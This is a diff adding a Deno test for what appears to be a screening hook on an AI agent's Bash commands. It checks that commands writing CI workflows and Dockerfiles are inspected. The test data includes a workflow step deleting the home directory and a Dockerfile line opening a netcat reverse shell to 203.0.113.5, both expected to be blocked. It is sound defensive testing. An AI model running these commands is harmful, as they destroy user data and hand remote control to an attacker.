@@ -125,3 +125,27 @@ Deno.test("ci_runs: hostile input is read in linear time", () => {
   composeCommands("services:\n  a:\n" + "    command:\n".repeat(10_000));
   assert.ok(performance.now() - t0 < 1000);
 });
+
+Deno.test("ci_runs: CI files and Dockerfiles written by the shell are judged too", () => {
+  const sh = (c: string) => blocks("Bash", { command: c });
+  assert.ok(
+    sh(
+      "printf 'jobs:\\n  a:\\n    steps:\\n      - run: rm -rf ~\\n' > .github/workflows/x.yml",
+    ),
+  );
+  assert.ok(
+    sh(
+      "cat > Dockerfile <<'EOF'\nFROM alpine\nRUN nc 203.0.113.5 4444 -e /bin/sh\nEOF",
+    ),
+  );
+  assert.ok(
+    !sh(
+      "cat > .github/workflows/ci.yml <<'EOF'\non: push\njobs:\n  t:\n    steps:\n      - run: npm ci && npm test\n      - run: curl -fsSL https://get.pnpm.io/install.sh | sh -\nEOF",
+    ),
+  );
+  assert.ok(
+    !sh(
+      "cat > Dockerfile <<'EOF'\nFROM node:20\nRUN rm -rf /var/lib/apt/lists/* && curl -sSf https://sh.rustup.rs | sh -s -- -y\nEOF",
+    ),
+  );
+});
